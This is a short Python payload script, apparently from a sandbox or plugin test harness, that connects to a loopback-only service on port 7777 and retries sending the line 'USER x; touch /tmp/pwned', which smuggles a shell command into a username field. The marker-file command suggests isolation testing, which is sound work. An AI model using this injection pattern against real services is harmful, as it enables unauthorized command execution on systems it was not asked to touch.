"""Exploits a guest service that only listens on loopback."""

import socket
import time

from plugcell.harness.payloads._common import attempt, duration, report

VULN_PORT = 7777


def exploit():
    with socket.create_connection(("127.0.0.1", VULN_PORT), timeout=1.5) as s:
        s.sendall(b"USER x; touch /tmp/pwned\n")
        s.recv(1024)


if __name__ == "__main__":
    deadline = time.monotonic() + duration()
    tries = 0
    while time.monotonic() < deadline:
        tries += 1
        if attempt("exploit", exploit, try_=tries):
            break
        time.sleep(0.2)
    report("done", True, tries=tries)
